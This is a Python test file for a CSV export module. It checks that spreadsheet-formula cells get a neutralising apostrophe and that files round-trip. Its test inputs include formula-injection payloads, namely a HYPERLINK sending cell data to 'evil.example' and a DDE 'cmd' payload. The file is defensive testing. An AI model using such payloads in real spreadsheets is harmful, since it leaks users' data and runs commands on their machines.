"""Tables on their way out: nothing in them may act."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from quitus.adapters.tables.csv_export import write_csv
from quitus.adapters.tables.csv_file import CsvFiles
from quitus.adapters.tables.safe_cells import plain_cell, safe_cell


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
        "=cmd|'/C calc'!A0",
        "+33 4 78 00 00 00",
        "-Durand",
        "-12",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\ttexte",
        " =1+1",
        "\u00a0=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠x",
        "'=1+1",
        "''=1+1",
    ],
)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert safe_cell(text) == f"'{text}"
    assert plain_cell(safe_cell(text)) == text


@pytest.mark.parametrize(
    "text", ["", "Durand", "l’été", "'", "'Durand", "1+1=2", "a@x.example", "12,50", "(12)", "'' x"]
)
def test_other_text_stays_as_it_is(text):
    assert safe_cell(text) == text
    assert plain_cell(text) == text


def test_the_file_that_is_written():
    content = write_csv(
        ["Nom", "Montant", "Échéance", "Jours", "Objet"],
        [
            ["=1+1", Decimal("-1234.50"), date(2026, 10, 22), -3, None],
            ['Café "Le Zinc"; SARL', Decimal("1E+3"), None, 0, "a\nb"],
        ],
    )
    assert content.decode("utf-8-sig") == (
        '"Nom";"Montant";"Échéance";"Jours";"Objet"\r\n'
        '"\'=1+1";"-1234,50";"2026-10-22";"-3";""\r\n'
        '"Café ""Le Zinc""; SARL";"1000";"";"0";"a\nb"\r\n'
    )
    assert content.startswith(b"\xef\xbb\xbf")


def test_headers_are_made_harmless_too():
    assert write_csv(["=1+1"], []) == b'\xef\xbb\xbf"\'=1+1"\r\n'


any_text = st.text(max_size=20) | st.text(alphabet="=+-@\t\r\n' \u00a0＝a1", max_size=6)


@given(any_text)
def test_the_apostrophe_is_taken_off_exactly_where_it_was_put(text):
    assert plain_cell(safe_cell(text)) == text


@given(st.lists(st.lists(any_text, min_size=2, max_size=2), max_size=6))
def test_no_written_cell_begins_like_a_formula(rows):
    content = write_csv(["Nom", "Ville"], rows)
    for cells in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"):
        for cell in cells:
            assert not cell.lstrip("\u00a0 ").startswith(
                ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
            )


@given(st.lists(st.lists(any_text, min_size=2, max_size=2), max_size=6))
def test_what_is_written_is_read_back(rows):
    """But for NUL, line ends (all become one kind) and rows that hold only blanks."""
    files = CsvFiles()
    table = files.read(files.write(["Nom", "Ville"], rows))
    expected = [
        tuple(cell.replace("\0", "").replace("\r\n", "\n").replace("\r", "\n") for cell in row)
        for row in rows
    ]
    assert [row.cells for row in table.rows] == [row for row in expected if any(cell.strip() for cell in row)]
    assert table.problems == ()
